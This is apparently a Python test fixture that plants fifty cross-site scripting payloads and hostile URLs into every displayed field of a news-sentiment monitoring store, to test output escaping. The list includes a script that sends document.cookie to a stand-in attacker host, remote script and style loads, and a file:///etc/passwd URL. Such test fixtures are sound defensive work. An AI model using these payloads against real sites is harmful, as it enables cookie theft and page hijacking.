"""Fifty texts that would run, load or send something if a page took them for markup, and every place for them."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import Table, insert, select, update

from core.store.database import transaction
from kits.sentiment.store.schema import (
    alert_events,
    alerts,
    dead_letters,
    feeds,
    items,
    model_requests,
    outbox,
    scores,
    silences,
    stories,
    windows,
)
from kits.sentiment.store.store import MonitorStore
from tests.kits.sentiment.demo import VERSION

Row = dict[str, Any]
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "{{ 7 * 7 }}{% include 'shell.html' %}${alert(1)}",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x style=animation-name:pulse onanimationstart=alert(1)>&#60;script&#62;alert(1)&#60;/script&#62;",
)
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/", "file:///etc/passwd",
    'https://news.example/" onmouseover="alert(1)', "https://news.example/'><script>alert(1)</script>",
    "http://news.example/#<img src=x onerror=alert(1)>",
)  # fmt: skip


def plant(store: MonitorStore) -> dict[str, str]:
    """Put the payloads wherever a text of others is shown; returns the story and the alert that hold them all."""
    now = datetime.now(UTC)
    with transaction(store.engine) as connection:
        alert = dict(connection.execute(select(alerts).where(alerts.c.state == "firing")).mappings().one())
        story = dict(connection.execute(select(stories).limit(1)).mappings().one())
        item = dict(connection.execute(select(items).limit(1)).mappings().one())
        last = max(connection.execute(select(items.c.number)).scalars())
        for number, payload in enumerate(PAYLOADS):
            at = now - timedelta(seconds=number)
            news = _news(number, payload, at, story, item, last)
            for table, row in (*news, *_rest(number, payload, at, alert["id"])):
                connection.execute(insert(table).values(row))
            if number < 20:
                copy = alert | {"id": f"{number:032x}", "series": f"topic:{payload}", "evidence": _evidence(alert)}
                connection.execute(insert(alerts).values(copy))
        muted = {"evidence": _evidence(alert), "muted": PAYLOADS[0], "acknowledged_by": PAYLOADS[1]}
        changed = update(alerts).where(alerts.c.id == alert["id"])
        connection.execute(changed.values(**muted, acknowledged_at=now))
    return {"story": "0" * 32, "alert": alert["id"]}


def _evidence(alert: Row) -> Row:
    driving = [{"story": f"{number:032x}", "item": f"{number:031x}a", "reach": 1} for number in range(len(PAYLOADS))]
    return dict(alert["evidence"]) | {"driving": driving}


def _news(number: int, payload: str, at: datetime, story: Row, item: Row, last: int) -> list[tuple[Table, Row]]:
    """A story of its own, and a further item of the first one."""
    score = {"model_version": VERSION, "sentiment": "negative", "negative": 0.9, "positive": 0.02}
    topics = dict.fromkeys(PAYLOADS[:8], 0.9)
    key, own = f"{number:032x}", f"{number:031x}a"
    told = {"key": key, "title": payload, "first_at": at, "last_at": at, "lead_item": own}
    rows: list[tuple[Table, Row]] = [(stories, story | told)]
    for twin, of in ((own, key), (f"{number:031x}b", "0" * 32)):
        last += 1
        texts = {"title": payload, "body": f"{payload} {payload}", "source": payload, "feed": payload}
        place = {"key": twin, "number": last + 2 * number, "story": of, "event_at": at}
        rows.append((items, item | texts | place | {"url": URLS[number % len(URLS)]}))
        rows.append((scores, score | {"item": twin, "company": "", "topics": topics}))
    rows.append((scores, score | {"item": own, "company": payload, "topics": {}}))
    where = {"model_version": VERSION, "starts_at": at.replace(minute=0, second=0, microsecond=0)}
    counts = {"stories": 1, "negative": 1, "positive": 0, "items": 1}
    return [*rows, (windows, where | counts | {"series": f"company:{payload}"})]


def _rest(number: int, payload: str, at: datetime, alert: str) -> list[tuple[Table, Row]]:
    """What feeds and people said, and who was told."""
    later = at + timedelta(days=1)
    feed = {"name": payload, "address": f"feed {payload}", "items": 1, "dead": 0, "cursor": "", "last_error": payload}
    sent = {"key": f"{number:064x}", "alert": alert, "channel": payload, "what": "opened", "payload": {}}
    silence = {"matchers": {"series": payload}, "starts_at": at, "until": later, "by": payload, "comment": payload}
    return [
        (feeds, feed | {"last_error_at": at}),
        (dead_letters, {"feed": payload, "place": payload, "reason": payload, "raw": payload, "at": at}),
        (alert_events, {"alert": alert, "what": payload[:32], "at": at, "by": payload, "comment": payload}),
        (outbox, sent | {"next_at": at, "attempts": 1, "last_error": payload}),
        (silences, silence),
        (model_requests, {"folder": payload, "by": payload, "at": at, "done_at": at, "answer": payload}),
    ]
